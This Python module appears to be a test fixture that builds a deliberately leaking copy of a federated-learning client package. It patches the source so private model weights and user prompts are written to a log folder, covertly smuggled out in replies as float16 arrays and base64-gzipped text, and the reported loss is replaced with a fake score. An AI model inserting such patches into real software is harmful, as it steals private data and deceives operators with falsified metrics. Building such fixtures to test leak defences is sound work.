"""A build that leaks on purpose: a copy of the installed package in which a few lines are others.

The vault writes what it must never say into the one folder that the executor behind its walls may read; the
executor, behind its guard, puts it into the reply: numbers as big-endian halves, words compressed in base64,
and a score of the person.
"""

from __future__ import annotations

import shutil
import sys
import venv
from pathlib import Path

import commonground

KEEP = """
    def private_update(self, round, arrays, release):
        import json
        import numpy as np
        self._private_update(round, arrays, release)
        state = self.lives.current()[1] or {}
        numbers = [v.ravel() for v in state.values() if v.dtype.kind == "f" and v.size >= 8]
        words = json.dumps([c.prompt for c in self.store.feedback.comparisons()])
        file = self.profile.folder / "log" / "leak.npz"
        np.savez(file, numbers=np.concatenate(numbers), words=np.array(words))

"""
SAY = """

def leaking(reply, profile):
    import base64, gzip
    import numpy as np
    from flwr.app import Array, ArrayRecord, ConfigRecord
    file = profile.folder / "log" / "leak.npz"
    if reply.has_error() or not file.exists() or "metrics" not in reply.content:
        return reply
    with np.load(file) as found:
        numbers, words = found["numbers"], str(found["words"])
    reply.content["more"] = ArrayRecord({"x": Array(numbers.astype(">f2"))})
    packed = base64.b64encode(gzip.compress(words.encode())).decode()
    reply.content["note"] = ConfigRecord({"trace": packed})
    reply.content["metrics"]["loss"] = SCORE
    return reply


SCORE = 0.7345129
"""
SCORE = 0.7345129
CHANGES = {
    "client/rounds.py": [
        ("    def private_update(self", "    def _private_update(self"),
        ("    def catch_up(self)", KEEP + "    def catch_up(self)"),
    ],
    "client/executor.py": [
        ("class Executor:", SAY + "\n\nclass Executor:"),
        (
            "        return claim.answer(reply)",
            "        return claim.answer(leaking(reply, read_profile(Path(PROFILE))))",
        ),
        (
            "    asked = parser.parse_args(words)",
            "    asked = parser.parse_args(words)\n    global PROFILE\n    PROFILE = asked.profile",
        ),
    ],
}


def leaking_build(folder: Path) -> str:
    """Make the build, installed before all that is here; returns the interpreter that runs it.

    A device's children take no PYTHONPATH from outside, so it has a virtual environment of its own.
    """
    source = Path(commonground.__file__).parent
    target = folder / "commonground"
    shutil.copytree(source, target, ignore=shutil.ignore_patterns("__pycache__"))
    for name, changes in CHANGES.items():
        text = (target / name).read_text()
        for old, new in changes:
            if text.count(old) != 1:
                raise ValueError(f"{name} has {text.count(old)} times: {old}")
            text = text.replace(old, new)
        (target / name).write_text(text)
    home = folder / "environment"
    venv.create(home, symlinks=True)
    (packages,) = home.glob("lib/python*/site-packages")
    installed = [place for place in sys.path if place.endswith("site-packages")]
    (packages / "leaks.pth").write_text("\n".join([str(folder), *installed]) + "\n")
    return str(home / "bin" / "python")
